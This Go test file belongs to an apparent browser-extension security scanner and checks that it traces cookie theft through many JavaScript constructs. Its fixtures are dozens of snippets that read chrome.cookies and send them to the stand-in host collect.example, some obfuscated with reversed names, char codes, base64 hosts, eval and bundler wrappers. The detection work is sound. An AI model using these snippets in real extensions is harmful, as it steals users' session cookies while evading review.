package flow

import (
	"slices"
	"strings"
	"testing"

	"github.com/extwatch/extwatch/manifests"
	"github.com/extwatch/extwatch/signatures/behavior"
	"github.com/extwatch/extwatch/signatures/behavior/syntax"
)

// testUnit parses a script for a context.
func testUnit(t testing.TB, file string, context behavior.Context, text string) *Script {
	t.Helper()
	ast, src, err := syntax.ParseScript([]byte(text))
	if err != nil {
		t.Fatalf("%s: %v\n%s", file, err, text)
	}
	u := &Script{File: file, Context: context, Src: src, AST: ast}
	if context == behavior.Content || context == behavior.PageWorld {
		u.Matches = []string{"https://www.exchange.test/*"}
	}
	return u
}

func flowTexts(r behavior.Report) []string {
	var out []string
	for _, f := range r.Flows {
		s := f.Source
		if f.From != "" {
			s += "(" + f.From + ")"
		}
		s += " > " + f.Sink
		if f.Host != "" {
			s += " > " + f.Host
		}
		out = append(out, s)
	}
	slices.Sort(out)
	return slices.Compact(out)
}

func analyzeText(t testing.TB, scripts ...*Script) behavior.Report {
	t.Helper()
	e := newEngine(&manifests.Manifest{HomepageURL: "https://vendor.test/"}, scripts, defaultBudget)
	e.Run()
	return e.Report()
}

const cookies = `cookies > fetch > collect.example`

// Each case is one script; flows are given as "source(from) > sink > host". bg is the default context.
type flowCase struct {
	name    string
	context behavior.Context
	script  string
	flows   []string
}

func (c flowCase) run(t *testing.T) {
	context := c.context
	if context == "" {
		context = behavior.Background
	}
	got := flowTexts(analyzeText(t, testUnit(t, "a.js", context, c.script)))
	slices.Sort(c.flows)
	if !slices.Equal(got, c.flows) {
		t.Errorf("flows:\n  got  %s\n  want %s\n%s", strings.Join(got, "\n       "), strings.Join(c.flows, "\n       "), c.script)
	}
}

func TestFlowsThroughTheLanguage(t *testing.T) {
	const send = `fetch("https://collect.example/x",{method:"POST",body:d})`
	one := []string{cookies}
	for _, c := range []flowCase{
		{"callback", "", `chrome.cookies.getAll({}, function(d){ ` + send + ` })`, one},
		{"arrow", "", `chrome.cookies.getAll({}, d => ` + send + `)`, one},
		{"promise", "", `chrome.cookies.getAll({}).then(d => ` + send + `)`, one},
		{"await", "", `(async () => { const d = await chrome.cookies.getAll({}); ` + send + ` })()`, one},
		{"browser namespace", "", `browser.cookies.getAll({}).then(d => ` + send + `)`, one},
		{"json", "", `chrome.cookies.getAll({}, c => { const d = JSON.stringify(c); ` + send + ` })`, one},
		{"base64", "", `chrome.cookies.getAll({}, c => { let d = btoa(JSON.stringify(c)); ` + send + ` })`, one},
		{"map and join", "", `chrome.cookies.getAll({}, c => { const d = c.map(x => x.name + "=" + x.value).join("; "); ` + send + ` })`, one},
		{"forEach and concatenation", "", `chrome.cookies.getAll({}, c => { let d = ""; c.forEach(x => { d += x.value }); ` + send + ` })`, one},
		{"for of", "", `chrome.cookies.getAll({}, c => { let d = []; for (const x of c) d.push(x.value); ` + send + ` })`, one},
		{"for index", "", `chrome.cookies.getAll({}, c => { let d = ""; for (var i=0;i<c.length;i++) d += c[i].value; ` + send + ` })`, one},
		{"reduce", "", `chrome.cookies.getAll({}, c => { const d = c.reduce((a, x) => a + x.value, ""); ` + send + ` })`, one},
		{"filter", "", `chrome.cookies.getAll({}, c => { const d = c.filter(x => x.secure); ` + send + ` })`, one},
		{"object", "", `chrome.cookies.getAll({}, c => { const d = {a: 1, b: {c}}; ` + send + ` })`, one},
		{"spread object", "", `chrome.cookies.getAll({}, c => { const o = {c}; const d = {...o, z: 1}; ` + send + ` })`, one},
		{"spread array", "", `chrome.cookies.getAll({}, c => { const d = [...c, 1]; ` + send + ` })`, one},
		{"assign", "", `chrome.cookies.getAll({}, c => { const d = Object.assign({}, {c}); ` + send + ` })`, one},
		{"entries", "", `chrome.cookies.getAll({}, c => { const d = Object.entries({c}).map(([k, v]) => k + v).join(); ` + send + ` })`, one},
		{"keys", "", `chrome.cookies.getAll({}, c => { const o = {c}; const d = Object.keys(o).map(k => o[k]); ` + send + ` })`, one},
		{"function", "", `function out(d){ ` + send + ` } chrome.cookies.getAll({}, c => out(c))`, one},
		{"function as callback", "", `function out(d){ ` + send + ` } chrome.cookies.getAll({}, out)`, one},
		{"function result", "", `function id(x){ return x } chrome.cookies.getAll({}, c => { const d = id(c); ` + send + ` })`, one},
		{"closure variable", "", `let d; chrome.cookies.getAll({}, c => { d = c }); setInterval(() => { ` + send + ` }, 1000)`, one},
		{"closure before", "", `let d; setInterval(() => { ` + send + ` }, 1000); chrome.cookies.getAll({}, c => { d = c });`, one},
		{"object state", "", `const s = {}; setInterval(() => { const d = s.jar; ` + send + ` }, 1000); chrome.cookies.getAll({}, c => { s.jar = c });`, one},
		{"class", "", `class T { constructor(u){ this.u = u } async run(){ const d = await chrome.cookies.getAll({}); this.out(d) } out(d){ fetch(this.u, {body: d}) } } new T("https://collect.example/x").run()`, one},
		{"class with private fields", "", `class T { #u = "https://collect.example/x"; #out(d){ fetch(this.#u, {body: d}) } run(){ chrome.cookies.getAll({}, c => this.#out(c)) } } new T().run()`, one},
		{"inherited", "", `class A { out(d){ ` + send + ` } } class B extends A { run(){ chrome.cookies.getAll({}, c => super.out(c)) } } new B().run()`, one},
		{"prototype", "", `function T(){ } T.prototype.out = function(d){ ` + send + ` }; T.prototype.run = function(){ var self = this; chrome.cookies.getAll({}, function(c){ self.out(c) }) }; new T().run()`, one},
		{"getter", "", `const s = { jar: null, get d(){ return this.jar } }; chrome.cookies.getAll({}, c => { s.jar = c; const d = s.d; ` + send + ` })`, one},
		{"static method", "", `class T { static out(d){ ` + send + ` } } chrome.cookies.getAll({}, T.out)`, one},
		{"generator", "", `function* g(c){ for (const x of c) yield x.value } chrome.cookies.getAll({}, c => { const d = [...g(c)]; ` + send + ` })`, one},
		{"async generator", "", `async function* g(){ yield await chrome.cookies.getAll({}) } (async () => { for await (const d of g()) ` + send + ` })()`, one},
		{"new Promise", "", `function jar(){ return new Promise(r => chrome.cookies.getAll({}, r)) } jar().then(d => ` + send + `)`, one},
		{"new Promise late", "", `const p = new Promise(r => setTimeout(() => chrome.cookies.getAll({}, c => r(c)), 5)); p.then(d => ` + send + `)`, one},
		{"Promise.all", "", `Promise.all([chrome.cookies.getAll({}), 1]).then(([d]) => ` + send + `)`, one},
		{"Promise chain", "", `Promise.resolve().then(() => chrome.cookies.getAll({})).then(c => JSON.stringify(c)).then(d => ` + send + `).catch(() => {})`, one},
		{"destructuring", "", `const { cookies: { getAll } } = chrome; getAll({}, d => ` + send + `)`, one},
		{"alias", "", `const k = chrome.cookies; const g = k.getAll.bind(k); g({}, d => ` + send + `)`, one},
		{"computed", "", `chrome["coo" + "kies"]["get" + "All"]({}, d => ` + send + `)`, one},
		{"reversed name", "", `chrome["seikooc".split("").reverse().join("")].getAll({}, d => ` + send + `)`, one},
		{"char codes", "", `chrome[String.fromCharCode(99,111,111,107,105,101,115)].getAll({}, d => ` + send + `)`, one},
		{"base64 host", "", `chrome.cookies.getAll({}, d => fetch(atob("aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUvYQ=="), {body: d}))`, one},
		{"globalThis", "", `globalThis["chrome"].cookies.getAll({}, d => self["fetch"]("https://collect.example/x", {body: d}))`, one},
		{"Reflect", "", `Reflect.get(chrome, "cookies").getAll({}, d => Reflect.apply(fetch, null, ["https://collect.example/x", {body: d}]))`, one},
		{"call and apply", "", `chrome.cookies.getAll.call(chrome.cookies, {}, d => fetch.apply(self, ["https://collect.example/x", {body: d}]))`, one},
		{"optional chaining", "", `chrome?.cookies?.getAll?.({}, d => ` + send + `)`, one},
		{"comma call", "", `(0, chrome.cookies.getAll)({}, d => (0, fetch)("https://collect.example/x", {body: d}))`, one},
		{"template host", "", "const h = 'collect'; chrome.cookies.getAll({}, d => fetch(`https://${h}.example/x?d=${d}`))", one},
		{"host from table", "", `const c = {hosts: ["collect.example"]}; chrome.cookies.getAll({}, d => fetch("https://" + c.hosts[0] + "/x", {body: d}))`, one},
		{"arguments", "", `function out(){ const d = arguments[0]; ` + send + ` } chrome.cookies.getAll({}, out)`, one},
		{"rest", "", `function out(...a){ const d = a[0]; ` + send + ` } chrome.cookies.getAll({}, c => out(c, 1))`, one},
		{"default parameter", "", `function out(d, u = "https://collect.example/x"){ fetch(u, {body: d}) } chrome.cookies.getAll({}, c => out(c))`, one},
		{"nothing there yet", "", `const heard = {}; function on(name, fn){ if (heard[name] != null) throw Error(name); heard[name] = fn } on("jar", d => ` + send + `); chrome.cookies.getAll({}, c => heard.jar(c))`, one},
		{"condition", "", `chrome.cookies.getAll({}, c => { const d = c.length ? c : null; if (d) ` + send + ` })`, one},
		{"switch", "", `chrome.cookies.getAll({}, c => { let d; switch (Date.now()) { case 1: d = c; break; default: d = 2 } ` + send + ` })`, one},
		{"try", "", `chrome.cookies.getAll({}, c => { try { var d = JSON.stringify(c); ` + send + ` } catch (e) { } finally { } })`, one},
		{"flattened", "", `chrome.cookies.getAll({}, c => { const o = "2|0|1".split("|"); let i = 0, d; while (true) { switch (o[i++]) { case "0": d = btoa(d); continue; case "1": ` + send + `; continue; case "2": d = JSON.stringify(c); continue } break } })`, one},
		{"unreached function", "", `function never(){ chrome.cookies.getAll({}, d => ` + send + `) }`, one},
		{"unreached method", "", `const api = { out(d){ ` + send + ` }, go(){ chrome.cookies.getAll({}, c => this.out(c)) } }`, one},
		{"dead branch", "", `const DEBUG = false; if (DEBUG) chrome.cookies.getAll({}, d => ` + send + `)`, one},
		{"map object", "", `const m = new Map(); chrome.cookies.getAll({}, c => { m.set("a", c); const d = m.get("a"); ` + send + ` })`, one},
		{"URLSearchParams", "", `chrome.cookies.getAll({}, c => { const d = new URLSearchParams(); d.append("c", c[0].value); ` + send + ` })`, one},
		{"FormData", "", `chrome.cookies.getAll({}, c => { const d = new FormData(); d.append("f", new Blob([JSON.stringify(c)])); ` + send + ` })`, one},
		{"TextEncoder", "", `chrome.cookies.getAll({}, c => { const d = new TextEncoder().encode(JSON.stringify(c)); ` + send + ` })`, one},
		{"encrypted", "", `chrome.cookies.getAll({}, async c => { const d = await crypto.subtle.encrypt({}, key, new TextEncoder().encode(c)); ` + send + ` })`, one},
		{"Request", "", `chrome.cookies.getAll({}, d => fetch(new Request("https://collect.example/x", {method: "POST", body: d})))`, one},
		{"headers", "", `chrome.cookies.getAll({}, d => fetch("https://collect.example/x", {headers: new Headers({"X-A": d[0].value})}))`, one},
		{"wrapper object", "", `const net = { post(u, b){ return fetch(u, {method: "POST", body: b}) } }; chrome.cookies.getAll({}, d => net.post("https://collect.example/x", d))`, one},
		{"eval text", "", `eval('chrome.cookies.getAll({}, d => fetch("https://collect.example/x", {body: d}))')`, one},
		{"webpack", "", `(()=>{var e={1:(e,t,n)=>{"use strict";n.d(t,{out:()=>r});const o="https://collect.example/x";function r(d){fetch(o,{body:d})}},2:(e,t,n)=>{var r=n(1);chrome.cookies.getAll({},(c=>{(0,r.out)(c)}))}},t={};function n(r){var o=t[r];if(void 0!==o)return o.exports;var a=t[r]={exports:{}};return e[r](a,a.exports,n),a.exports}n.d=(e,t)=>{for(var r in t)n.o(t,r)&&!n.o(e,r)&&Object.defineProperty(e,r,{enumerable:!0,get:t[r]})};n.o=(e,t)=>Object.prototype.hasOwnProperty.call(e,t);n(2)})()`, one},
		{"webpack 4", "", `!function(e){var t={};function n(r){if(t[r])return t[r].exports;var o=t[r]={i:r,l:!1,exports:{}};return e[r].call(o.exports,o,o.exports,n),o.l=!0,o.exports}n(n.s=1)}([function(e,t){e.exports=function(d){fetch("https://collect.example/x",{body:d})}},function(e,t,n){var r=n(0);chrome.cookies.getAll({},r)}])`, one},
		{"esbuild commonjs", "", `var c=(e,t)=>()=>(t||e((t={exports:{}}).exports,t),t.exports);var a=c((e,t)=>{t.exports={out(d){fetch("https://collect.example/x",{body:d})}}});var b=a();chrome.cookies.getAll({},d=>b.out(d))`, one},
		{"typescript awaiter", "", `var __awaiter=function(t,a,P,g){return new (P||(P=Promise))(function(resolve,reject){function f(v){try{step(g.next(v))}catch(e){reject(e)}}function step(r){r.done?resolve(r.value):new P(function(y){y(r.value)}).then(f)}step((g=g.apply(t,a||[])).next())})};function jar(){return __awaiter(this,void 0,void 0,function*(){const c=yield chrome.cookies.getAll({});return c})}jar().then(d=>` + send + `)`, one},
		{"from domain", "", `chrome.cookies.getAll({domain: ".exchange.test"}, d => ` + send + `)`, []string{`cookies(.exchange.test) > fetch > collect.example`}},
		{"from list", "", `["a.test", "b.test"].forEach(domain => chrome.cookies.getAll({domain}, d => ` + send + `))`, []string{`cookies(a.test) > fetch > collect.example`, `cookies(b.test) > fetch > collect.example`}},
		{"from url", "", `chrome.cookies.get({url: "https://www.exchange.test/x", name: "sid"}, d => ` + send + `)`, []string{`cookies(www.exchange.test) > fetch > collect.example`}},
	} {
		t.Run(c.name, c.run)
	}
}
